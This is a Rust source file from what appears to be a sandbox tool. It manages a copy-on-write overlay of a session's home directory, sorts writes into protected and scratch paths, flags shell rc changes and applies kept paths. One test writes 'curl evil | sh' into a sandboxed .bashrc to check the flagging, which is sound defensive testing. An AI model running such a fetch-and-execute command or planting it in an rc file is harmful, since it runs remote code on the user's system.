//! The session's copy-on-write home: one overlay upper directory for everything the sandbox
//! writes in the home outside the project, the writable paths and the caches.
//!
//! What lands there is sorted after the session:
//! - under a protected path (an *embedded* entry: `~/.claude`, `~/.claude.json`, a path that
//!   did not exist yet): reviewed like any protected path (see [`embedded_after`]);
//! - everything else is the session's *scratch*: never applied by itself, listed in one line at
//!   exit ([`Session::home_writes`]), and kept on request ([`Session::keep_home`]) until the
//!   session's home layer is dropped ([`Session::discard_home`], or pruned after a week).

use std::collections::BTreeMap;
use std::fs;
use std::io;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use crate::error::{StateError, io_err};
use crate::flags::{self, Subject};
use crate::fsops;
use crate::manifest::{self, ChangeKind, Manifest, NodeKind, join_rel};
use crate::meta::now_ms;
use crate::overlay;
use crate::store::{AcceptReport, Conflict, Planned, Session, StateStore, apply_one};

/// A home layer older than this (and not running) is dropped when a new session begins.
const KEEP_HOME_MS: u64 = 7 * 24 * 3600 * 1000;
/// Files larger than this are not hashed to tell a copy-up from a change.
const COMPARE_MAX_BYTES: u64 = 16 * 1024 * 1024;

/// What the caller knows about the home when a session begins.
#[derive(Clone, Debug)]
pub struct HomeSpec {
    /// The home directory (canonical).
    pub path: PathBuf,
    /// Host paths inside the home that are not the session's to write (the project, writable
    /// binds, caches and their mount points): left out of the scratch and of `keep_home`.
    pub skip: Vec<PathBuf>,
}

/// The session's copy-on-write home, as the sandbox mounts it.
#[derive(Clone, Debug)]
pub struct HomeLayer {
    /// The host home (the overlay's lower layer).
    pub host: PathBuf,
    /// The overlay upper directory: everything the session wrote in the home.
    pub upper: PathBuf,
    /// The overlay workdir, on the same filesystem as `upper`.
    pub work: PathBuf,
    /// See [`HomeSpec::skip`].
    pub skip: Vec<PathBuf>,
}

#[derive(Clone, Debug, Serialize, Deserialize)]
pub(crate) struct MetaHome {
    #[serde(with = "crate::pathser::one")]
    pub host: PathBuf,
    #[serde(with = "crate::pathser::many", default)]
    pub skip: Vec<PathBuf>,
}

impl HomeLayer {
    pub(crate) fn at(dir: &Path, m: &MetaHome) -> HomeLayer {
        HomeLayer {
            host: m.host.clone(),
            upper: dir.join("home").join("upper"),
            work: dir.join("home").join("work"),
            skip: m.skip.clone(),
        }
    }

    /// Where the host path `p` (inside the home) lives in the upper directory.
    pub fn upper_of(&self, p: &Path) -> Option<PathBuf> {
        let rel = p.strip_prefix(&self.host).ok()?;
        Some(join_rel(&self.upper, rel))
    }

    /// Whether `p` is inside the home and outside every skipped path.
    pub(crate) fn owns(&self, p: &Path) -> bool {
        p.starts_with(&self.host) && p != self.host && !self.skip.iter().any(|s| p.starts_with(s))
    }
}

impl MetaHome {
    pub(crate) fn of(spec: &HomeSpec) -> MetaHome {
        MetaHome {
            host: spec.path.clone(),
            skip: spec.skip.clone(),
        }
    }
}

/// Create the session's home layer directories (the upper root takes the home's mode). Not
/// fsynced: after a crash a missing layer reads as one the session wrote nothing to.
pub(crate) fn prepare(dir: &Path, spec: &HomeSpec) -> Result<(), StateError> {
    let md = fs::metadata(&spec.path).map_err(io_err("inspect home", &spec.path))?;
    let base = dir.join("home");
    fsops::private_dir(&base)?;
    let upper = base.join("upper");
    fsops::private_dir(&upper)?;
    fs::set_permissions(
        &upper,
        std::os::unix::fs::PermissionsExt::from_mode(md.mode() & 0o7777),
    )
    .map_err(io_err("set mode of", &upper))?;
    fsops::private_dir(&base.join("work"))
}

/// The merged tree of an embedded entry: `before` (its snapshot's manifest; empty when the
/// path did not exist) seen through `upper`, the entry's place in the home's upper directory,
/// which may be missing (nothing changed), a whiteout (removed), an opaque or new directory
/// (everything below replaced) or a file or symlink (written, or replaced by a rename).
pub(crate) fn embedded_after(
    before: &Manifest,
    upper: &Path,
) -> Result<(Manifest, BTreeMap<PathBuf, PathBuf>), StateError> {
    let md = match fs::symlink_metadata(upper) {
        Ok(md) => md,
        Err(e) if e.kind() == io::ErrorKind::NotFound => {
            return Ok((before.clone(), BTreeMap::new()));
        }
        Err(e) => return Err(io_err("inspect", upper)(e)),
    };
    if overlay::is_whiteout(upper, &md)? {
        return Ok((Manifest::default(), BTreeMap::new()));
    }
    if md.is_dir() {
        let was_dir = before.entries.get(Path::new("")).map(|n| n.kind) == Some(NodeKind::Dir);
        let base = if was_dir && !overlay::is_opaque(upper)? {
            before.clone()
        } else {
            Manifest::default()
        };
        return overlay::merged(&base, upper);
    }
    let mut m = Manifest::default();
    let mut sources = BTreeMap::new();
    m.entries
        .insert(PathBuf::new(), manifest::node_with(upper, &md)?);
    sources.insert(PathBuf::new(), upper.to_path_buf());
    Ok((m, sources))
}

/// One path the session wrote in its home outside protected paths.
#[derive(Clone, Debug)]
pub struct HomeWrite {
    /// The host path.
    pub host_path: PathBuf,
    /// Added, modified or removed (a directory that replaced the host's is `TypeChanged`).
    pub kind: ChangeKind,
    /// What a reviewer must not miss (a shell rc file, a new executable…).
    pub flags: Vec<String>,
}

/// Whether the upper entry differs from the host's (a copy-up alone is no change).
fn differs(up: &Path, up_md: &fs::Metadata, host: &Path) -> Result<bool, StateError> {
    let Ok(h_md) = fs::symlink_metadata(host) else {
        return Ok(true);
    };
    if h_md.file_type() != up_md.file_type()
        || h_md.mode() & 0o7777 != up_md.mode() & 0o7777
        || h_md.len() != up_md.len()
    {
        return Ok(true);
    }
    if up_md.len() > COMPARE_MAX_BYTES {
        return Ok(true);
    }
    Ok(manifest::node_with(up, up_md)?.hash != manifest::node_with(host, &h_md)?.hash)
}

impl Session {
    /// Host paths whose place in the upper directory is not scratch: embedded entries and
    /// the skipped paths.
    fn home_excluded(&self, home: &HomeLayer) -> Vec<PathBuf> {
        let mut v: Vec<PathBuf> = self
            .entries
            .iter()
            .filter(|e| e.embedded)
            .map(|e| e.host.clone())
            .collect();
        v.extend(home.skip.iter().cloned());
        v
    }

    /// Everything the session wrote in its home outside protected paths, caches, the project
    /// and writable paths: files, symlinks and removals (directories only when they replaced
    /// the host's), in path order. Empty without a home layer or once it was dropped.
    pub fn home_writes(&self) -> Result<Vec<HomeWrite>, StateError> {
        let Some(home) = &self.home else {
            return Ok(Vec::new());
        };
        self.walk_home(home, &home.upper)
    }

    fn walk_home(&self, home: &HomeLayer, from: &Path) -> Result<Vec<HomeWrite>, StateError> {
        if fs::symlink_metadata(from).is_err() {
            return Ok(Vec::new());
        }
        let excluded = self.home_excluded(home);
        let host_of = |p: &Path| join_rel(&home.host, p.strip_prefix(&home.upper).unwrap_or(p));
        let walk = walkdir::WalkDir::new(from)
            .follow_links(false)
            .sort_by_file_name()
            .into_iter()
            .filter_entry(|e| {
                let h = host_of(e.path());
                !excluded.iter().any(|x| h.starts_with(x))
            });
        let mut out = Vec::new();
        for e in walk {
            let e = e.map_err(|e| crate::manifest::walk_err(from, e))?;
            if e.path() == home.upper {
                continue;
            }
            let host_path = host_of(e.path());
            let md = fs::symlink_metadata(e.path()).map_err(io_err("inspect", e.path()))?;
            let host_node = fs::symlink_metadata(&host_path).ok();
            let kind = if overlay::is_whiteout(e.path(), &md)? {
                if host_node.is_none() {
                    continue;
                }
                ChangeKind::Removed
            } else if md.is_dir() {
                match &host_node {
                    Some(h) if h.is_dir() && !overlay::is_opaque(e.path())? => continue,
                    Some(_) => ChangeKind::TypeChanged,
                    // New directories are implied by what is in them.
                    None => continue,
                }
            } else if md.is_file() || md.file_type().is_symlink() {
                if !differs(e.path(), &md, &host_path)? {
                    continue;
                }
                match &host_node {
                    None => ChangeKind::Added,
                    Some(h) if h.file_type() == md.file_type() => ChangeKind::Modified,
                    Some(_) => ChangeKind::TypeChanged,
                }
            } else {
                // Sockets and FIFOs a tool left behind: nothing to keep.
                continue;
            };
            let after = if kind == ChangeKind::Removed {
                None
            } else {
                manifest::node_with(e.path(), &md).ok()
            };
            let rel = host_path
                .strip_prefix(&home.host)
                .unwrap_or(&host_path)
                .to_path_buf();
            let link_target = fs::read_link(e.path()).ok();
            let flags = flags::flags(&Subject {
                host_path: &host_path,
                rel: &rel,
                kind,
                before: None,
                after: after.as_ref(),
                before_text: None,
                after_text: None,
                before_file: None,
                after_file: Some(e.path()),
                link_target: link_target.as_deref(),
            });
            out.push(HomeWrite {
                host_path,
                kind,
                flags,
            });
        }
        Ok(out)
    }

    /// Apply what the session wrote at or below the host paths `paths` (inside the home,
    /// outside protected paths) to the host, each file atomically. A host file changed since
    /// the session began is a [`Conflict`] and left alone. Removals are applied too; a
    /// directory the session replaced keeps the host's other entries.
    pub fn keep_home(&self, paths: &[PathBuf]) -> Result<AcceptReport, StateError> {
        let _lock = self.hold_running()?;
        let home = self.home.as_ref().ok_or_else(|| StateError::NotProtected {
            id: self.id.clone(),
            path: paths.first().cloned().unwrap_or_default(),
        })?;
        let started_ms = self.meta()?.created_ms;
        let mut planned: Vec<Planned> = Vec::new();
        for p in paths {
            if !home.owns(p) || self.home_excluded(home).iter().any(|x| p.starts_with(x)) {
                return Err(StateError::NotProtected {
                    id: self.id.clone(),
                    path: p.clone(),
                });
            }
            let from = home.upper_of(p).unwrap_or_default();
            for w in self.walk_home(home, &from)? {
                let rel = w
                    .host_path
                    .strip_prefix(&home.host)
                    .unwrap_or(&w.host_path)
                    .to_path_buf();
                let up = join_rel(&home.upper, &rel);
                let after = match w.kind {
                    ChangeKind::Removed => None,
                    _ => manifest::node_of(&up)?,
                };
                planned.push(Planned {
                    entry: 0,
                    host_path: w.host_path.clone(),
                    kind: w.kind,
                    before: manifest::node_of(&w.host_path)?,
                    after,
                    source: Some(up),
                    rel,
                });
            }
            // New directories on the way to what is kept.
            let mut dirs: Vec<Planned> = Vec::new();
            for pl in &planned {
                let mut a = pl.rel.parent();
                while let Some(d) = a.filter(|d| !d.as_os_str().is_empty()) {
                    let host = join_rel(&home.host, d);
                    if fs::symlink_metadata(&host).is_err()
                        && !dirs.iter().any(|x| x.rel == d)
                        && let Some(node) = manifest::node_of(&join_rel(&home.upper, d))?
                    {
                        dirs.push(Planned {
                            entry: 0,
                            host_path: host,
                            kind: ChangeKind::Added,
                            before: None,
                            after: Some(node),
                            source: None,
                            rel: d.to_path_buf(),
                        });
                    }
                    a = d.parent();
                }
            }
            planned.extend(dirs);
        }
        if planned.is_empty() {
            return Err(StateError::Unsupported {
                path: paths.first().cloned().unwrap_or_default(),
                what: format!("session {} wrote nothing there", self.id),
            });
        }
        planned.sort_by(|a, b| match (a.after.is_none(), b.after.is_none()) {
            (true, false) => std::cmp::Ordering::Less,
            (false, true) => std::cmp::Ordering::Greater,
            (true, true) => b.rel.cmp(&a.rel),
            (false, false) => a.rel.cmp(&b.rel),
        });
        planned.dedup_by(|a, b| a.rel == b.rel);
        let mut report = AcceptReport::default();
        let mut dir_modes = Vec::new();
        for p in &planned {
            if let Ok(md) = fs::symlink_metadata(&p.host_path)
                && p.before.is_some()
                && changed_since(&md, started_ms)
            {
                report.conflicts.push(Conflict {
                    path: p.host_path.clone(),
                    why: "changed on the host since the session started".into(),
                });
                continue;
            }
            match apply_one(&home.host, p, &mut dir_modes) {
                Ok(()) => report.applied.push(p.host_path.clone()),
                Err(why) => report.conflicts.push(Conflict {
                    path: p.host_path.clone(),
                    why,
                }),
            }
        }
        for (root, rel, mode) in dir_modes.iter().rev() {
            let _ = fsops::set_dir_mode_nofollow(&join_rel(root, rel), *mode);
        }
        report.accepted = report.conflicts.is_empty();
        Ok(report)
    }

    /// Drop the session's home layer (its scratch; protected changes are read from it too, so
    /// only once they are decided). Dropping a dropped layer does nothing.
    pub fn discard_home(&self) -> Result<(), StateError> {
        let _lock = self.hold_running()?;
        fsops::remove_tree(&self.dir.join("home"))
    }

    /// Remove the session from the store altogether — for one that changed nothing (no
    /// protected change, nothing written in the home). Refused once an accept applied some.
    /// A session with only a home layer, which holds nothing, leaves its directories for a later
    /// session to start in (see `store::spare`).
    pub fn forget(&self) -> Result<(), StateError> {
        let _lock = self.hold_running()?;
        let meta = self.meta()?;
        if !meta.applied.is_empty() {
            return Err(StateError::WrongStatus {
                id: self.id.clone(),
                status: meta.status.to_string(),
                msg: "some of its changes were applied; it stays for restore".into(),
            });
        }
        if meta.entries.is_empty()
            && meta.home.is_some()
            && let Some(root) = self.dir.parent()
            && crate::store::park(root, &self.id)
        {
            return Ok(());
        }
        fsops::remove_tree(&self.dir)
    }

    /// Whether the session still holds a home layer.
    pub fn has_home_layer(&self) -> bool {
        self.home.is_some() && self.dir.join("home").join("upper").is_dir()
    }
}

fn changed_since(md: &fs::Metadata, started_ms: u64) -> bool {
    let ms = |s: i64, ns: i64| (s.max(0) as u64) * 1000 + (ns.max(0) as u64) / 1_000_000;
    ms(md.mtime(), md.mtime_nsec()) >= started_ms || ms(md.ctime(), md.ctime_nsec()) >= started_ms
}

/// One line for the exit summary: how many paths the session wrote in its home that were not
/// kept, the directories holding most of them, and how to keep one. `None` when nothing was.
pub fn home_writes_line(session: &str, writes: &[HomeWrite], home: &Path) -> Option<String> {
    if writes.is_empty() {
        return None;
    }
    let mut top: BTreeMap<PathBuf, usize> = BTreeMap::new();
    for w in writes {
        let rel = w.host_path.strip_prefix(home).unwrap_or(&w.host_path);
        let key: PathBuf = rel.components().take(2).collect();
        let key = if key.as_path() == rel && rel.components().count() > 1 {
            rel.parent().map(Path::to_path_buf).unwrap_or(key)
        } else {
            key
        };
        *top.entry(key).or_default() += 1;
    }
    let mut top: Vec<(PathBuf, usize)> = top.into_iter().collect();
    top.sort_by(|a, b| b.1.cmp(&a.1).then_with(|| a.0.cmp(&b.0)));
    let shown: Vec<String> = top
        .iter()
        .take(3)
        .map(|(p, n)| format!("~/{} {n}", cordon_events::terminal::quoted(p.as_os_str())))
        .collect();
    let more = if top.len() > 3 { ", …" } else { "" };
    let flagged: Vec<String> = writes
        .iter()
        .filter(|w| !w.flags.is_empty())
        .take(3)
        .map(|w| {
            let rel = w.host_path.strip_prefix(home).unwrap_or(&w.host_path);
            format!("~/{}", cordon_events::terminal::quoted(rel.as_os_str()))
        })
        .collect();
    let flagged = if flagged.is_empty() {
        String::new()
    } else {
        format!(" — FLAGGED: {}", flagged.join(", "))
    };
    Some(format!(
        "{} path{} written in the home outside protected state {} not kept ({}{more}){flagged}; \
         keep one with `cordon state accept {session} PATH`",
        writes.len(),
        if writes.len() == 1 { "" } else { "s" },
        if writes.len() == 1 { "was" } else { "were" },
        shown.join(", "),
    ))
}

impl StateStore {
    /// Drop the home layers of sessions that began more than a week ago and are not running.
    pub(crate) fn prune_homes(&self) {
        let Ok(rd) = fs::read_dir(self.root()) else {
            return;
        };
        let now = now_ms();
        for d in rd.flatten() {
            // A session its id says began within the week is kept: its metadata, written when
            // it began, cannot be older (a start reads every kept session's otherwise).
            let named = d.file_name();
            let started = named.to_str().and_then(cordon_events::session_started_ms);
            if started.is_some_and(|t| now.saturating_sub(t) <= KEEP_HOME_MS) {
                continue;
            }
            let layer = d.path().join("home");
            if !layer.is_dir() {
                continue;
            }
            let Some(id) = d.file_name().to_str().map(str::to_owned) else {
                continue;
            };
            let Ok(s) = self.open(&id) else { continue };
            let Ok(meta) = s.meta() else { continue };
            if now.saturating_sub(meta.created_ms) > KEEP_HOME_MS && !s.is_running() {
                let _ = s.discard_home();
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::manifest::scan;

    /// A whiteout as an unprivileged overlay may leave it: an empty file with the xattr.
    fn whiteout(p: &Path) {
        fs::write(p, "").unwrap();
        xattr::set(p, "user.overlay.whiteout", b"y").unwrap();
    }

    #[test]
    fn home_layers_older_than_a_week_are_pruned_by_a_later_start() {
        let t = tempfile::tempdir().unwrap();
        let home = t.path().join("home");
        fs::create_dir_all(&home).unwrap();
        let store = StateStore::new(t.path().join("state"));
        let spec = HomeSpec {
            path: home.clone(),
            skip: Vec::new(),
        };
        let begin = |id: &str| store.begin_with_home(id, &[], Some(&spec)).unwrap();
        // Ids as new_session_id makes them: one from 2020, one of now. The old one's metadata
        // says 2020 too (begin wrote now); a name of another shape is judged by its metadata.
        let old = begin("20200101T000000Z-00000001");
        let young = begin(&cordon_events::new_session_id());
        let odd_old = begin("imported-session");
        let odd_young = begin("imported-too");
        // Its id says this week; its metadata is not read (a start would read every kept
        // session's), so a date it says otherwise does not drop it.
        let named_young = begin(&cordon_events::new_session_id());
        for s in [&old, &odd_old, &named_young] {
            let path = s.dir.join("meta.json");
            let mut meta: serde_json::Value =
                serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
            meta["created_ms"] = serde_json::json!(1_577_836_800_000u64);
            fs::write(&path, meta.to_string()).unwrap();
        }
        store.prune_homes();
        let layer = |s: &Session| s.dir.join("home").is_dir();
        assert!(!layer(&old) && !layer(&odd_old), "a week old: dropped");
        assert!(layer(&young) && layer(&odd_young), "younger: kept");
        assert!(layer(&named_young), "its id says this week");
    }

    #[test]
    fn embedded_entries_read_their_place_in_the_home_layer() {
        let t = tempfile::tempdir().unwrap();
        let host = t.path().join("claude");
        fs::create_dir_all(&host).unwrap();
        fs::write(host.join("a"), "1").unwrap();
        fs::write(host.join("b"), "2").unwrap();
        let before = scan(&host).unwrap();
        let up = t.path().join("upper-claude");
        // Nothing written: the snapshot is the result.
        assert_eq!(embedded_after(&before, &up).unwrap().0, before);
        // One file changed, one removed, one added.
        fs::create_dir_all(&up).unwrap();
        fs::write(up.join("a"), "changed").unwrap();
        whiteout(&up.join("b"));
        fs::write(up.join("c"), "new").unwrap();
        let (after, sources) = embedded_after(&before, &up).unwrap();
        let names: Vec<_> = after.entries.keys().cloned().collect();
        assert_eq!(names, ["", "a", "c"].map(PathBuf::from));
        assert_eq!(sources[Path::new("c")], up.join("c"));
        // Removed as a whole.
        let gone = t.path().join("gone");
        whiteout(&gone);
        assert!(embedded_after(&before, &gone).unwrap().0.entries.is_empty());
        // Did not exist, then a file (a rename over, or a first run).
        let file = t.path().join("file");
        fs::write(&file, "{}").unwrap();
        let (m, _) = embedded_after(&Manifest::default(), &file).unwrap();
        assert_eq!(m.entries[Path::new("")].kind, NodeKind::File);
    }

    #[test]
    fn scratch_leaves_out_protected_and_skipped_paths_and_copy_ups() {
        let t = tempfile::tempdir().unwrap();
        let home = t.path().join("home");
        fs::create_dir_all(home.join(".claude")).unwrap();
        fs::create_dir_all(home.join(".npm")).unwrap();
        fs::write(home.join("same"), "unchanged").unwrap();
        fs::write(home.join("old"), "x").unwrap();
        // A host file whose change time falls in the session's first millisecond counts as
        // changed since the start (the check cannot tell, so it says conflict): the files
        // above must be older than the session, as a user's files are.
        std::thread::sleep(std::time::Duration::from_millis(2));
        let store = StateStore::new(t.path().join("state"));
        let spec = HomeSpec {
            path: home.clone(),
            skip: vec![home.join(".npm")],
        };
        let s = store
            .begin_with_home(
                "s1",
                &[home.join(".claude"), home.join(".codex")],
                Some(&spec),
            )
            .unwrap();
        assert!(s.entries.iter().all(|e| e.embedded));
        assert_eq!(s.entries[1].kind, crate::meta::EntryKind::Absent);
        let up = &s.home.as_ref().unwrap().upper;
        for d in [".claude", ".codex", ".npm", ".config/tool"] {
            fs::create_dir_all(up.join(d)).unwrap();
        }
        fs::write(up.join(".claude/settings.json"), "{}").unwrap();
        fs::write(up.join(".codex/config.toml"), "").unwrap();
        fs::write(up.join(".npm/blob"), "cache").unwrap();
        fs::write(up.join(".config/tool/db"), "scratch").unwrap();
        fs::write(up.join("same"), "unchanged").unwrap();
        whiteout(&up.join("old"));
        fs::write(up.join(".bashrc"), "curl evil | sh\n").unwrap();
        let w = s.home_writes().unwrap();
        let got: Vec<(PathBuf, ChangeKind)> =
            w.iter().map(|w| (w.host_path.clone(), w.kind)).collect();
        assert_eq!(
            got,
            [
                (home.join(".bashrc"), ChangeKind::Added),
                (home.join(".config/tool/db"), ChangeKind::Added),
                (home.join("old"), ChangeKind::Removed),
            ]
        );
        assert!(!w[0].flags.is_empty(), "a shell rc file is flagged");
        let line = home_writes_line("s1", &w, &home).unwrap();
        assert!(line.starts_with("3 paths written"), "{line}");
        assert!(line.contains("FLAGGED: ~/.bashrc"), "{line}");
        // The review sees the protected ones, the new one as added.
        let changes = s.changes().unwrap();
        assert!(
            changes
                .iter()
                .any(|c| c.host_path == home.join(".codex") && c.kind == ChangeKind::Added)
        );
        assert!(
            changes
                .iter()
                .any(|c| c.host_path == home.join(".claude/settings.json"))
        );
        // Keeping scratch: the file and its new parent; the removal; never a skipped path.
        let r = s
            .keep_home(&[home.join(".config"), home.join("old")])
            .unwrap();
        assert!(r.conflicts.is_empty(), "{:?}", r.conflicts);
        assert_eq!(
            fs::read_to_string(home.join(".config/tool/db")).unwrap(),
            "scratch"
        );
        assert!(!home.join("old").exists());
        assert!(s.keep_home(&[home.join(".npm/blob")]).is_err());
        assert!(s.keep_home(&[home.join(".claude")]).is_err());
        // A host file changed since the session began is a conflict, left alone.
        fs::write(home.join(".bashrc"), "mine\n").unwrap();
        let r = s.keep_home(&[home.join(".bashrc")]).unwrap();
        assert_eq!(r.conflicts.len(), 1);
        assert_eq!(fs::read_to_string(home.join(".bashrc")).unwrap(), "mine\n");
        s.discard_home().unwrap();
        assert!(s.home_writes().unwrap().is_empty());
    }
}
